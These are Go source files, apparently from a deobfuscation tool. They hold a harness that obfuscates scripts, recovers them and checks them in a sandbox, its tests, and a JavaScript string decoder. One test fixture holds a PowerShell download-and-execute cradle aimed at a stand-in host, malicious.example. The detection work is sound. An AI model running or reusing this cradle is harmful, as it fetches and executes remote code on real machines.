// concat/join patterns already present in clean originals). The floors
// leave room for two case regressions and ordinary corpus drift.
const (
	FrozenPassRate          = 0.99
	FrozenMeanResidualDelta = 0.5
)

// SkipReport is one skipped technique with its reason.
type SkipReport struct {
	Technique string `json:"technique"`
	Reason    string `json:"reason"`
}

// CaseResult is the outcome of one sample × profile × depth cell.
type CaseResult struct {
	Sample  string `json:"sample"`
	Family  string `json:"family"`
	Profile string `json:"profile"`
	Depth   int    `json:"depth"`
	// Seed is the derived obfuscator seed, enough to reproduce the
	// cell in isolation.
	Seed    int64        `json:"seed"`
	Applied []string     `json:"applied,omitempty"`
	Skipped []SkipReport `json:"skipped,omitempty"`
	// Scores: clean original, obfuscated input, recovered output, and
	// the recovery gap (residual minus original; 0 is full recovery).
	OriginalScore   int    `json:"original_score"`
	ObfuscatedScore int    `json:"obfuscated_score"`
	ResidualScore   int    `json:"residual_score"`
	ResidualDelta   int    `json:"residual_delta"`
	Outcome         string `json:"outcome"`
	Detail          string `json:"detail,omitempty"`
}

// ProfileSummary aggregates one profile's cells.
type ProfileSummary struct {
	Profile string `json:"profile"`
	// Cases is the pass-rate denominator (obf-skipped cells excluded).
	Cases               int     `json:"cases"`
	Passes              int     `json:"passes"`
	DeobErrors          int     `json:"deob_errors"`
	Diverged            int     `json:"diverged"`
	ObfErrors           int     `json:"obf_errors"`
	ObfSkipped          int     `json:"obf_skipped"`
	ObfDiverged         int     `json:"obf_diverged"`
	PassRate            float64 `json:"pass_rate"`
	MeanResidualDelta   float64 `json:"mean_residual_delta"`
	MeanObfuscatedScore float64 `json:"mean_obfuscated_score"`

	sumResidualDelta int
	sumObfScore      int
}

// Offender is one failing case kept verbatim.
type Offender struct {
	Sample        string `json:"sample"`
	Profile       string `json:"profile"`
	Depth         int    `json:"depth"`
	Outcome       string `json:"outcome"`
	Detail        string `json:"detail,omitempty"`
	ResidualDelta int    `json:"residual_delta"`
	Original      string `json:"original"`
	Obfuscated    string `json:"obfuscated,omitempty"`
	Recovered     string `json:"recovered,omitempty"`
}

// Report is the machine-readable gap report.
type Report struct {
	Seed     int64 `json:"seed"`
	Samples  int   `json:"samples"`
	MaxDepth int   `json:"max_depth"`

	TotalCases        int     `json:"total_cases"`
	Passes            int     `json:"passes"`
	PassRate          float64 `json:"pass_rate"`
	MeanResidualDelta float64 `json:"mean_residual_delta"`

	// Gate records the floors this run was judged against and the
	// verdict; filled by Evaluate.
	BaselinePassRate    float64 `json:"baseline_pass_rate"`
	BaselineMaxResidual float64 `json:"baseline_max_residual"`
	Pass                bool    `json:"pass"`

	Profiles       []ProfileSummary `json:"profiles"`
	WorstOffenders []Offender       `json:"worst_offenders,omitempty"`
	Cases          []CaseResult     `json:"cases"`
	ElapsedMS      int64            `json:"elapsed_ms"`
}

// Evaluate judges the run against pass-rate and residual floors,
// records them in the report, and returns the verdict. Zero floors
// fall back to the frozen baseline.
func (r *Report) Evaluate(minPassRate, maxMeanResidual float64) bool {
	if minPassRate == 0 {
		minPassRate = FrozenPassRate
	}
	if maxMeanResidual == 0 {
		maxMeanResidual = FrozenMeanResidualDelta
	}
	r.BaselinePassRate = minPassRate
	r.BaselineMaxResidual = maxMeanResidual
	r.Pass = r.PassRate >= minPassRate && r.MeanResidualDelta <= maxMeanResidual
	return r.Pass
}

// DetectorTech maps an applied obfuscation technique to the name
// internal/score reports when it detects it. The obfuscator and the
// detector evolved separately; this mapping (and the recall test that
// exercises it) is the contract keeping them from drifting apart.
func DetectorTech(t obfuscate.Technique) string {
	switch t {
	case obfuscate.Ticking:
		return score.TechTicking
	case obfuscate.Whitespacing:
		return score.TechWhitespacing
	case obfuscate.RandomCase:
		return score.TechRandomCase
	case obfuscate.RandomName:
		return score.TechRandomName
	case obfuscate.Alias:
		return score.TechAlias
	case obfuscate.Concat:
		return score.TechConcat
	case obfuscate.Reorder:
		return score.TechReorder
	case obfuscate.Replace:
		return score.TechReplace
	case obfuscate.Reverse:
		return score.TechReverse
	case obfuscate.EncodeASCII, obfuscate.EncodeHex, obfuscate.EncodeBinary, obfuscate.EncodeOctal:
		return score.TechNumericEnc
	case obfuscate.EncodeBase64:
		return score.TechBase64
	case obfuscate.EncodeWhitespace:
		return score.TechWhitespace
	case obfuscate.EncodeSpecialChar:
		return score.TechSpecialChar
	case obfuscate.EncodeBxor:
		return score.TechBxor
	case obfuscate.SecureString:
		return score.TechSecureString
	case obfuscate.CompressDeflate, obfuscate.CompressGzip:
		return score.TechCompress
	}
	return string(t)
}

// ExpectedDetections returns the subset of an applied stack that a
// static detector must flag in the final text — the contract the
// detector-recall test enforces. Three visibility rules, each derived
// from how later layers rewrite the text that carries earlier
// evidence:
//
//  1. Every L3 wrapper re-encodes the whole script, and after the last
//     L3 any L2 transform operates on the wrapper's own text — which
//     has few or no string literals, so the transform falls back to a
//     whole-script wrap and hides everything it wraps. When the stack
//     contains an L3 at all, the boundary is therefore the last
//     level>=2 technique; everything before it lives inside a payload
//     string and cannot be expected from static analysis.
//  2. Alias rewrites the command tokens that carry ticking and
//     random-case evidence, so those two are not expected when alias
//     follows them.
//  3. After an L3 wrapper, random-case evidence rides on a handful of
//     short tokens (iex, char) where dense case flips are not
//     statistically distinguishable from ordinary spelling, so it is
//     not expected there.
func ExpectedDetections(applied []obfuscate.Technique) []obfuscate.Technique {
	hasL3 := false
	boundary := 0
	for i, t := range applied {
		if obfuscate.Level(t) == 3 {
			hasL3 = true
		}
		if hasL3 && obfuscate.Level(t) >= 2 {
			boundary = i
		}
	}
	suffix := applied[boundary:]
	var out []obfuscate.Technique
	for i, t := range suffix {
		if t == obfuscate.Ticking || t == obfuscate.RandomCase {
			aliasLater := false
			for _, later := range suffix[i+1:] {
				if later == obfuscate.Alias {
					aliasLater = true
					break
				}
			}
			if aliasLater {
				continue
			}
			if t == obfuscate.RandomCase && hasL3 {
				continue
			}
		}
		out = append(out, t)
	}
	return out
}
