package gauntlet_test

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/gauntlet"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// smokeConfig is the seconds-scale configuration `make gauntlet-smoke`
// and this test share: small corpus, shallow wrappers, every profile.
func smokeConfig() gauntlet.Config {
	return gauntlet.Config{
		Seed:     7,
		Samples:  4,
		MaxDepth: 2,
		Timeout:  30 * time.Second,
	}
}

func TestGauntletSmoke(t *testing.T) {
	rep, err := gauntlet.Run(context.Background(), smokeConfig())
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if rep.TotalCases == 0 {
		t.Fatal("gauntlet produced no cases")
	}
	if len(rep.Profiles) != len(obfuscate.ProfileNames()) {
		t.Errorf("profiles summarized = %d, want %d", len(rep.Profiles), len(obfuscate.ProfileNames()))
	}
	valid := map[string]bool{
		gauntlet.OutcomePass:        true,
		gauntlet.OutcomeObfError:    true,
		gauntlet.OutcomeObfSkipped:  true,
		gauntlet.OutcomeObfDiverged: true,
		gauntlet.OutcomeDeobError:   true,
		gauntlet.OutcomeDiverged:    true,
	}
	for _, c := range rep.Cases {
		if !valid[c.Outcome] {
			t.Errorf("case %s/%s/%d: invalid outcome %q", c.Sample, c.Profile, c.Depth, c.Outcome)
		}
	}
	for _, ps := range rep.Profiles {
		if got := ps.Passes + ps.DeobErrors + ps.Diverged + ps.ObfErrors; got != ps.Cases {
			t.Errorf("profile %s: outcome counts %d != cases %d", ps.Profile, got, ps.Cases)
		}
	}
	// The smoke grid must clear the frozen baseline like the full grid.
	if !rep.Evaluate(0, 0) {
		t.Errorf("smoke run below frozen baseline: pass rate %.3f (floor %.3f), mean residual %.2f (ceiling %.2f)",
			rep.PassRate, gauntlet.FrozenPassRate, rep.MeanResidualDelta, gauntlet.FrozenMeanResidualDelta)
		for _, c := range rep.Cases {
			if c.Outcome != gauntlet.OutcomePass && c.Outcome != gauntlet.OutcomeObfSkipped {
				t.Logf("  %s/%s depth=%d: %s %s", c.Sample, c.Profile, c.Depth, c.Outcome, c.Detail)
			}
		}
	}
	// An impossible floor must fail the gate and record it.
	if rep.Evaluate(1.01, gauntlet.FrozenMeanResidualDelta) {
		t.Error("Evaluate(1.01, ...) = true, want gate failure")
	}
	if rep.Pass {
		t.Error("report.Pass not updated by failing Evaluate")
	}
}

func TestGauntletDeterminism(t *testing.T) {
	run := func() []byte {
		rep, err := gauntlet.Run(context.Background(), smokeConfig())
		if err != nil {
			t.Fatalf("Run: %v", err)
		}
		rep.ElapsedMS = 0
		data, err := json.Marshal(rep)
		if err != nil {
			t.Fatalf("marshal: %v", err)
		}
		return data
	}
	a, b := run(), run()
	if string(a) != string(b) {
		t.Error("two runs with the same config produced different reports")
	}
}

func TestUnknownProfileRejected(t *testing.T) {
	cfg := smokeConfig()
	cfg.Profiles = []string{"nonesuch"}
	if _, err := gauntlet.Run(context.Background(), cfg); err == nil {
		t.Error("Run with unknown profile succeeded, want error")
	}
}

// recallScript is rich enough that every profile technique finds a
// target: string literals, user variables, pipelines and cmdlet calls.
const recallScript = `$payload = 'http://malicious.example/stage2.ps1'
$client = New-Object System.Net.WebClient
$data = $client.DownloadString($payload)
Invoke-Expression $data
Get-ChildItem C:\Users | ForEach-Object { Write-Host $_.Name }
`

// TestDetectorRecall pins the obfuscator-to-detector contract: every
// technique still statically visible in a profile's output must be
// flagged by internal/score. A failure names the missed technique so
// the gap is actionable (either the detector regressed or the
// technique's output stopped looking like itself).
func TestDetectorRecall(t *testing.T) {
	for _, p := range obfuscate.Profiles() {
		p := p
		t.Run(p.Name, func(t *testing.T) {
			depth := p.MaxDepth
			if depth > 2 {
				depth = 2
			}
			for seed := int64(1); seed <= 5; seed++ {
				o := obfuscate.New(seed)
				out, applied, _, err := o.ApplyProfile(recallScript, p, depth)
				if err != nil {
					t.Fatalf("seed %d: ApplyProfile: %v", seed, err)
				}
				rep := score.Analyze(out)
				for _, tech := range gauntlet.ExpectedDetections(applied) {
					if !rep.Has(gauntlet.DetectorTech(tech)) {
						t.Errorf("seed %d: technique %s applied (stack %v) but detector missed %s",
							seed, tech, applied, gauntlet.DetectorTech(tech))
					}
				}
			}
		})
	}
}
