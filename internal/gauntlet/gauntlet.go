// Package gauntlet runs the profile-based obfuscation arms race the
// ROADMAP names: every clean corpus sample is obfuscated with every
// profile at every wrapper depth, pushed through the deobfuscation
// engine, scored for residual obfuscation (paper §IV-B2) and verified
// for behavioral equivalence by executing the original and recovered
// scripts in the bounded sandbox and diffing observable output — the
// full ordered event trace plus console text, a stricter check than
// Table IV's network-set comparison. The result is a machine-readable
// gap report whose failures are the standing backlog of engine gaps.
package gauntlet

import (
	"context"
	"fmt"
	"hash/fnv"
	"runtime"
	"sort"
	"sync"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// Config controls one gauntlet run.
type Config struct {
	// Seed drives corpus generation and every per-case obfuscation
	// stack draw; the whole run is deterministic for a given Config.
	Seed int64
	// Samples is the clean corpus size. Zero means 12.
	Samples int
	// Profiles names the obfuscation profiles to run. Nil means all
	// built-in profiles.
	Profiles []string
	// MaxDepth caps wrapper depth globally (each profile also caps its
	// own). Zero means 3.
	MaxDepth int
	// Timeout bounds each deobfuscation and each sandbox execution
	// (the PR 1 envelope). Zero means 10s.
	Timeout time.Duration
	// Jobs bounds concurrent cases. Zero means GOMAXPROCS.
	Jobs int
	// WorstOffenders is how many failing scripts the report keeps
	// verbatim. Zero means 3.
	WorstOffenders int
	// SandboxMaxSteps bounds each sandbox execution. Deeply layered
	// stacks legitimately cost far more interpreter steps than the
	// sandbox's 3e6 default (every wrapper re-decodes the payload
	// character by character), so the gauntlet runs with a larger
	// budget. Zero means 30e6.
	SandboxMaxSteps int
}

func (cfg *Config) applyDefaults() {
	if cfg.Samples <= 0 {
		cfg.Samples = 12
	}
	if len(cfg.Profiles) == 0 {
		cfg.Profiles = obfuscate.ProfileNames()
	}
	if cfg.MaxDepth <= 0 {
		cfg.MaxDepth = 3
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = 10 * time.Second
	}
	if cfg.Jobs <= 0 {
		cfg.Jobs = runtime.GOMAXPROCS(0)
	}
	if cfg.WorstOffenders <= 0 {
		cfg.WorstOffenders = 3
	}
	if cfg.SandboxMaxSteps <= 0 {
		cfg.SandboxMaxSteps = 30_000_000
	}
}

// caseSpec is one (sample, profile, depth) grid cell.
type caseSpec struct {
	sample  *corpus.Sample
	profile *obfuscate.Profile
	depth   int
}

// caseScripts keeps the verbatim scripts of a case for offender
// reporting without bloating the full report.
type caseScripts struct {
	original   string
	obfuscated string
	recovered  string
}

// caseSeed derives the deterministic obfuscator seed of one grid cell.
func caseSeed(base int64, sample, profile string, depth int) int64 {
	h := fnv.New64a()
	fmt.Fprintf(h, "%d|%s|%s|%d", base, sample, profile, depth)
	return int64(h.Sum64())
}

type runner struct {
	cfg        Config
	deob       *core.Deobfuscator
	parseCache *pipeline.Cache
	evalCache  *pipeline.EvalCache
	// originalRuns caches the sandbox behaviour of each clean sample,
	// shared across that sample's profile × depth cells.
	originalRuns map[string]*sandbox.Result
}

// Run executes the gauntlet and assembles the gap report.
func Run(ctx context.Context, cfg Config) (*Report, error) {
	cfg.applyDefaults()
	profiles := make([]*obfuscate.Profile, 0, len(cfg.Profiles))
	for _, name := range cfg.Profiles {
		p, ok := obfuscate.GetProfile(name)
		if !ok {
			return nil, fmt.Errorf("gauntlet: unknown profile %q (have %v)", name, obfuscate.ProfileNames())
		}
		profiles = append(profiles, p)
	}
	start := time.Now()
	samples := corpus.Generate(corpus.Config{Seed: cfg.Seed, N: cfg.Samples, PlainFraction: 1})

	r := &runner{
		cfg:          cfg,
		deob:         core.New(core.Options{}),
		parseCache:   core.NewParseCache(4096, 16<<20),
		evalCache:    core.NewEvalCache(2048, 8<<20),
		originalRuns: make(map[string]*sandbox.Result, len(samples)),
	}
	for _, s := range samples {
		r.originalRuns[s.ID] = r.sandboxRun(ctx, s.Original)
	}

	var specs []caseSpec
	for _, s := range samples {
		for _, p := range profiles {
			for _, depth := range depthsFor(p, cfg.MaxDepth) {
				specs = append(specs, caseSpec{sample: s, profile: p, depth: depth})
			}
		}
	}

	cases := make([]CaseResult, len(specs))
	scripts := make([]caseScripts, len(specs))
	var wg sync.WaitGroup
	idxCh := make(chan int)
	for w := 0; w < cfg.Jobs; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range idxCh {
				cases[i], scripts[i] = r.runCase(ctx, specs[i])
			}
		}()
	}
	for i := range specs {
		idxCh <- i
	}
	close(idxCh)
	wg.Wait()

	rep := assemble(cfg, cases, scripts)
	rep.ElapsedMS = time.Since(start).Milliseconds()
	return rep, ctx.Err()
}

// depthsFor lists the wrapper depths a profile runs at: 0 for
// wrapper-less profiles, 1..min(profile.MaxDepth, cap) otherwise.
func depthsFor(p *obfuscate.Profile, maxDepth int) []int {
	if p.MaxDepth == 0 {
		return []int{0}
	}
	top := p.MaxDepth
	if top > maxDepth {
		top = maxDepth
	}
	depths := make([]int, 0, top)
	for d := 1; d <= top; d++ {
		depths = append(depths, d)
	}
	return depths
}

// sandboxRun executes one script under the envelope.
func (r *runner) sandboxRun(ctx context.Context, src string) *sandbox.Result {
	sctx, cancel := context.WithTimeout(ctx, r.cfg.Timeout)
	defer cancel()
	return sandbox.RunContext(sctx, src, sandbox.Options{MaxSteps: r.cfg.SandboxMaxSteps})
}

// runCase pushes one grid cell through obfuscate → deobfuscate →
// score → behavioral equivalence.
func (r *runner) runCase(ctx context.Context, spec caseSpec) (CaseResult, caseScripts) {
	seed := caseSeed(r.cfg.Seed, spec.sample.ID, spec.profile.Name, spec.depth)
	cr := CaseResult{
		Sample:  spec.sample.ID,
		Family:  string(spec.sample.Family),
		Profile: spec.profile.Name,
		Depth:   spec.depth,
		Seed:    seed,
	}
	sc := caseScripts{original: spec.sample.Original}

	obf, applied, skipped, err := obfuscate.New(seed).ApplyProfile(spec.sample.Original, spec.profile, spec.depth)
	for _, s := range skipped {
		cr.Skipped = append(cr.Skipped, SkipReport{Technique: string(s.Technique), Reason: s.Reason})
	}
	if err != nil {
		cr.Outcome = OutcomeObfError
		cr.Detail = err.Error()
		return cr, sc
	}
	for _, t := range applied {
		cr.Applied = append(cr.Applied, string(t))
	}
	if len(applied) == 0 {
		cr.Outcome = OutcomeObfSkipped
		cr.Detail = "profile stack produced no applicable technique"
		return cr, sc
	}
	sc.obfuscated = obf
	cr.OriginalScore = score.Score(spec.sample.Original)
	cr.ObfuscatedScore = score.Score(obf)

	dctx, cancel := context.WithTimeout(ctx, r.cfg.Timeout)
	res, derr := r.deob.DeobfuscateShared(dctx, obf, r.parseCache, r.evalCache)
	cancel()
	if derr != nil {
		cr.Outcome = OutcomeDeobError
		cr.Detail = derr.Error()
		// Nothing recovered: residual is the full obfuscated score.
		cr.ResidualScore = cr.ObfuscatedScore
		cr.ResidualDelta = cr.ResidualScore - cr.OriginalScore
		return cr, sc
	}
	sc.recovered = res.Script
	cr.ResidualScore = score.Score(res.Script)
	cr.ResidualDelta = cr.ResidualScore - cr.OriginalScore

	orig := r.originalRuns[spec.sample.ID]
	rec := r.sandboxRun(ctx, res.Script)
	if eq, detail := equivalent(orig, rec); !eq {
		// Attribute the failure before blaming the engine: if the
		// obfuscated input itself diverges from the clean original and
		// the recovered script reproduces the input's behaviour
		// exactly, the engine preserved the semantics it was given —
		// the defect is upstream (an obfuscator or sandbox-fidelity
		// bug), and counting it against the engine would let generator
		// regressions masquerade as recovery regressions.
		obfRun := r.sandboxRun(ctx, sc.obfuscated)
		if sameBehavior, _ := equivalent(obfRun, rec); sameBehavior {
			cr.Outcome = OutcomeObfDiverged
			cr.Detail = "obfuscated input diverges from the original; recovery preserved the input's behavior (" + detail + ")"
			return cr, sc
		}
		cr.Outcome = OutcomeDiverged
		cr.Detail = detail
		return cr, sc
	}
	cr.Outcome = OutcomePass
	return cr, sc
}

// equivalent diffs observable output: the full ordered event trace and
// the console text. This is deliberately stricter than Table IV's
// network-set comparison — a semantics-preserving recovery must not
// change any recorded behaviour.
func equivalent(a, b *sandbox.Result) (bool, string) {
	ae, be := a.Behavior, b.Behavior
	n := len(ae)
	if len(be) < n {
		n = len(be)
	}
	for i := 0; i < n; i++ {
		if ae[i].String() != be[i].String() {
			return false, fmt.Sprintf("event %d diverged: original %q vs recovered %q", i, ae[i], be[i])
		}
	}
	if len(ae) != len(be) {
		return false, fmt.Sprintf("event count diverged: original %d vs recovered %d", len(ae), len(be))
	}
	if a.Console != b.Console {
		return false, fmt.Sprintf("console diverged: original %q vs recovered %q", clip(a.Console), clip(b.Console))
	}
	return true, ""
}

func clip(s string) string {
	if len(s) > 160 {
		return s[:160] + "..."
	}
	return s
}

// assemble folds case results into the report: per-profile summaries,
// the overall pass rate, and the worst offenders verbatim.
func assemble(cfg Config, cases []CaseResult, scripts []caseScripts) *Report {
	rep := &Report{
		Seed:     cfg.Seed,
		Samples:  cfg.Samples,
		MaxDepth: cfg.MaxDepth,
		Cases:    cases,
	}
	byProfile := map[string]*ProfileSummary{}
	order := []string{}
	for i := range cases {
		c := &cases[i]
		ps := byProfile[c.Profile]
		if ps == nil {
			ps = &ProfileSummary{Profile: c.Profile}
			byProfile[c.Profile] = ps
			order = append(order, c.Profile)
		}
		switch c.Outcome {
		case OutcomeObfSkipped:
			ps.ObfSkipped++
			continue
		case OutcomeObfDiverged:
			ps.ObfDiverged++
			continue
		case OutcomeObfError:
			ps.ObfErrors++
		case OutcomeDeobError:
			ps.DeobErrors++
		case OutcomeDiverged:
			ps.Diverged++
		case OutcomePass:
			ps.Passes++
		}
		ps.Cases++
		ps.sumResidualDelta += c.ResidualDelta
		ps.sumObfScore += c.ObfuscatedScore
	}
	for _, name := range order {
		ps := byProfile[name]
		if ps.Cases > 0 {
			ps.PassRate = float64(ps.Passes) / float64(ps.Cases)
			ps.MeanResidualDelta = float64(ps.sumResidualDelta) / float64(ps.Cases)
			ps.MeanObfuscatedScore = float64(ps.sumObfScore) / float64(ps.Cases)
		}
		rep.TotalCases += ps.Cases
		rep.Passes += ps.Passes
		rep.Profiles = append(rep.Profiles, *ps)
	}
	sort.Slice(rep.Profiles, func(i, j int) bool { return rep.Profiles[i].Profile < rep.Profiles[j].Profile })
	if rep.TotalCases > 0 {
		rep.PassRate = float64(rep.Passes) / float64(rep.TotalCases)
		sum := 0
		for i := range cases {
			switch cases[i].Outcome {
			case OutcomeObfSkipped, OutcomeObfDiverged:
			default:
				sum += cases[i].ResidualDelta
			}
		}
		rep.MeanResidualDelta = float64(sum) / float64(rep.TotalCases)
	}

	// Worst offenders: failing cases by residual delta, scripts kept
	// verbatim so the gap is reproducible from the report alone.
	var failing []int
	for i := range cases {
		switch cases[i].Outcome {
		case OutcomePass, OutcomeObfSkipped:
		default:
			failing = append(failing, i)
		}
	}
	sort.Slice(failing, func(a, b int) bool {
		ca, cb := &cases[failing[a]], &cases[failing[b]]
		if ca.ResidualDelta != cb.ResidualDelta {
			return ca.ResidualDelta > cb.ResidualDelta
		}
		if ca.Sample != cb.Sample {
			return ca.Sample < cb.Sample
		}
		if ca.Profile != cb.Profile {
			return ca.Profile < cb.Profile
		}
		return ca.Depth < cb.Depth
	})
	for _, i := range failing {
		if len(rep.WorstOffenders) >= cfg.WorstOffenders {
			break
		}
		c := &cases[i]
		rep.WorstOffenders = append(rep.WorstOffenders, Offender{
			Sample:        c.Sample,
			Profile:       c.Profile,
			Depth:         c.Depth,
			Outcome:       c.Outcome,
			Detail:        c.Detail,
			ResidualDelta: c.ResidualDelta,
			Original:      scripts[i].original,
			Obfuscated:    scripts[i].obfuscated,
			Recovered:     scripts[i].recovered,
		})
	}
	return rep
}
