package jsfront

import (
	"fmt"
	"strconv"
	"strings"
	"unicode/utf16"
	"unicode/utf8"
)

// decodeString resolves the escape sequences of a quoted JS string
// literal (raw text including quotes) into its runtime value: hex
// (\xNN), unicode (\uNNNN and \u{...}), legacy octal (\NNN), the
// single-character escapes, and line continuations. Lone UTF-16
// surrogate halves (expressible via \u) are replaced with U+FFFD, which
// matches how they round-trip through well-formed output anyway.
func decodeString(raw string) (string, error) {
	if len(raw) < 2 {
		return "", fmt.Errorf("jsfront: malformed string literal %q", raw)
	}
	body := raw[1 : len(raw)-1]
	if !strings.ContainsRune(body, '\\') {
		return body, nil
	}
	var units []uint16
	flush := func(s string) {
		units = append(units, utf16.Encode([]rune(s))...)
	}
	i := 0
	for i < len(body) {
		c := body[i]
		if c != '\\' {
			j := strings.IndexByte(body[i:], '\\')
			if j < 0 {
				flush(body[i:])
				break
			}
			flush(body[i : i+j])
			i += j
			continue
		}
		if i+1 >= len(body) {
			return "", fmt.Errorf("jsfront: dangling backslash in %q", raw)
		}
		e := body[i+1]
		switch e {
		case 'n':
			units = append(units, '\n')
			i += 2
		case 't':
			units = append(units, '\t')
			i += 2
		case 'r':
			units = append(units, '\r')
			i += 2
		case 'b':
			units = append(units, '\b')
			i += 2
		case 'f':
			units = append(units, '\f')
			i += 2
		case 'v':
			units = append(units, '\v')
			i += 2
		case '0':
			// \0 is NUL unless followed by a digit (legacy octal below).
			if i+2 >= len(body) || body[i+2] < '0' || body[i+2] > '7' {
				units = append(units, 0)
				i += 2
				break
			}
			fallthrough
		case '1', '2', '3', '4', '5', '6', '7':
			j := i + 1
			val := 0
			for j < len(body) && j < i+4 && body[j] >= '0' && body[j] <= '7' {
				val = val*8 + int(body[j]-'0')
				j++
			}
			if val > 0xFF {
				// Three octal digits max out at \377.
				val /= 8
				j--
			}
			units = append(units, uint16(val))
			i = j
		case 'x':
			if i+4 > len(body) {
				return "", fmt.Errorf("jsfront: truncated \\x escape in %q", raw)
			}
			v, err := strconv.ParseUint(body[i+2:i+4], 16, 16)
			if err != nil {
				return "", fmt.Errorf("jsfront: bad \\x escape in %q", raw)
			}
			units = append(units, uint16(v))
			i += 4
		case 'u':
			if i+2 < len(body) && body[i+2] == '{' {
				end := strings.IndexByte(body[i+3:], '}')
				if end < 0 {
					return "", fmt.Errorf("jsfront: unterminated \\u{} escape in %q", raw)
				}
				v, err := strconv.ParseUint(body[i+3:i+3+end], 16, 32)
				if err != nil || v > 0x10FFFF {
					return "", fmt.Errorf("jsfront: bad \\u{} escape in %q", raw)
				}
				units = append(units, utf16.Encode([]rune{rune(v)})...)
				i += 3 + end + 1
				break
			}
			if i+6 > len(body) {
				return "", fmt.Errorf("jsfront: truncated \\u escape in %q", raw)
			}
			v, err := strconv.ParseUint(body[i+2:i+6], 16, 17)
			if err != nil {
				return "", fmt.Errorf("jsfront: bad \\u escape in %q", raw)
			}
			units = append(units, uint16(v))
			i += 6
		case '\n':
			i += 2 // line continuation
		case '\r':
			i += 2
			if i < len(body) && body[i] == '\n' {
				i++
			}
		default:
			// \' \" \\ \` \/ and any other identity escape.
			flush(string(e))
			i += 2
		}
	}
	return string(utf16.Decode(units)), nil
}

// QuoteJS renders s as a single-quoted JavaScript string literal, the
// frontend's canonical string form. Printable characters stay literal;
// control characters and non-UTF-8 content use the shortest escape.
func QuoteJS(s string) string {
	var sb strings.Builder
	sb.Grow(len(s) + 2)
	sb.WriteByte('\'')
	for _, r := range s {
		switch r {
		case '\'':
			sb.WriteString(`\'`)
		case '\\':
			sb.WriteString(`\\`)
		case '\n':
			sb.WriteString(`\n`)
		case '\r':
			sb.WriteString(`\r`)
		case '\t':
			sb.WriteString(`\t`)
		case utf8.RuneError:
			sb.WriteString(`�`)
		default:
			if r < 0x20 || r == 0x7f {
				fmt.Fprintf(&sb, `\x%02x`, r)
				break
			}
			sb.WriteRune(r)
		}
	}
	sb.WriteByte('\'')
	return sb.String()
}
