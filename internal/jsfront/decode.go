package jsfront

import (
	"strconv"
	"strings"
	"unicode/utf16"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// maxFoldLen bounds the rendered length of one folded literal, so a
// hostile concat pyramid cannot balloon the document faster than the
// envelope's growth accounting notices.
const maxFoldLen = 1 << 20

// repl is one pending source rewrite: token span [lo, hi] (inclusive
// token indices) replaced by text.
type repl struct {
	lo, hi int
	text   string
}

// decodePhase is the JavaScript frontend's recovery pass: it statically
// folds the string-decoder patterns obfuscators layer over payloads —
// escape-heavy literals, concatenation chains, String.fromCharCode
// calls, and array-join string tables — and splices the decoded
// literals in place. Like every pass, the rewrite is syntax-checked
// through the run's cache and reverted wholesale on regression; the
// driver's fixpoint loop re-runs the pass, so patterns that compose
// (a chain of decoded joins) collapse over successive iterations.
func (r *run) decodePhase(pc *pipeline.PassContext, doc *pipeline.Document) {
	v, err := doc.Tokens()
	if err != nil {
		return
	}
	toks := v.([]Token)
	src := doc.Text()
	sig := significant(toks)
	var repls []repl
	for i := 0; i < len(sig); {
		if r.Env.Violated() {
			return
		}
		if rp, next, ok := r.foldAt(sig, i); ok {
			repls = append(repls, rp)
			i = next
			continue
		}
		i++
	}
	if len(repls) == 0 {
		return
	}
	out := src
	for k := len(repls) - 1; k >= 0; k-- {
		rp := repls[k]
		start := sig[rp.lo].Start
		end := sig[rp.hi].End
		out = out[:start] + rp.text + out[end:]
	}
	r.Stats.PiecesRecovered += len(repls)
	doc.SetText(pc.ValidOrRevert(doc.View(), out, src))
}

// significant filters comments out; every folding pattern is expressed
// over consecutive significant tokens.
func significant(toks []Token) []Token {
	out := make([]Token, 0, len(toks))
	for _, t := range toks {
		if t.Type != Comment {
			out = append(out, t)
		}
	}
	return out
}

// foldAt tries each decoder pattern at sig[i], returning the rewrite
// and the index to resume scanning from.
func (r *run) foldAt(sig []Token, i int) (repl, int, bool) {
	if rp, next, ok := r.foldFromCharCode(sig, i); ok {
		return rp, next, ok
	}
	if rp, next, ok := r.foldArrayJoin(sig, i); ok {
		return rp, next, ok
	}
	if rp, next, ok := r.foldConcat(sig, i); ok {
		return rp, next, ok
	}
	if rp, next, ok := foldEscapes(sig, i); ok {
		return rp, next, ok
	}
	return repl{}, 0, false
}

// tightBefore reports that the token before index i binds tighter than
// `+`, so a fold starting at i would steal that operator's operand
// (`x * 'a' + 'b'`: the first literal belongs to the multiplication).
func tightBefore(sig []Token, i int) bool {
	if i == 0 {
		return false
	}
	p := sig[i-1]
	if p.Type != Punct {
		return false
	}
	switch p.Text {
	case "*", "/", "%", ".", "**", "?.":
		return true
	}
	return false
}

// tightAfter reports that the token after index i binds tighter than
// `+` (`'a' + 'b' * x`: the last literal belongs to the
// multiplication).
func tightAfter(sig []Token, i int) bool {
	if i+1 >= len(sig) {
		return false
	}
	n := sig[i+1]
	if n.Type != Punct {
		return false
	}
	switch n.Text {
	case "*", "/", "%", "**":
		return true
	}
	return false
}

// foldConcat folds a chain of two or more string literals joined by
// binary `+` into one literal. Both ends are precedence-guarded; when
// the trailing context binds tighter the chain is shortened rather
// than abandoned.
func (r *run) foldConcat(sig []Token, i int) (repl, int, bool) {
	if sig[i].Type != Str || tightBefore(sig, i) {
		return repl{}, 0, false
	}
	last := i
	for last+2 < len(sig) && sig[last+1].Type == Punct && sig[last+1].Text == "+" && sig[last+2].Type == Str {
		last += 2
	}
	// The element glued to a tighter-binding trailing operator belongs
	// to that operator, not to the chain.
	if tightAfter(sig, last) {
		last -= 2
	}
	if last <= i {
		return repl{}, 0, false
	}
	var sb strings.Builder
